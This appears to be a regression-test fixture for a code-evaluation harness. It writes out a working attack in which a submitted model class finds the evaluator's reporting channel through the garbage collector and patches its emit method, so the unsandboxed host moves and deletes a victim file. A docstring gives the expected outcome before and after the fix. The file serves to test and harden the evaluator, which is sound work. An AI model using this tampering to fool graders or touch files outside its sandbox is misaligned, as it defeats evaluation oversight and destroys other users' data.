"""Trust3 attack (protocol): make the unsandboxed host move a file it names. For the trials at other
sizes (index 7 and up with the default 5 trials and 2 near-duplicates) it reports, instead of its
own output file, /tmp/kevin-trust3-victim-<uid>.txt: `HostRun.shape_result` took any path it was
told, moved it into the host's inbox and deleted it when the evaluator closed. (The sandbox cannot
see that file; the host can.)

Before: `correct` with a `shape_specialised` warning, the victim file gone. Correct: `rejected`
(protocol violation: not its own file), the victim left alone.
"""
import gc
import os

import torch
import torch.nn as nn

VICTIM = f"/tmp/kevin-trust3-victim-{os.getuid()}.txt"
_channel = next((o for o in gc.get_objects() if type(o).__name__ == "Channel"), None)
if _channel is not None:
    _emit = _channel.emit

    def _lying_emit(event, **fields):
        if event == "trial_done" and fields.get("index", 0) >= 7:
            fields["path"] = VICTIM
        _emit(event, **fields)

    _channel.emit = _lying_emit


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
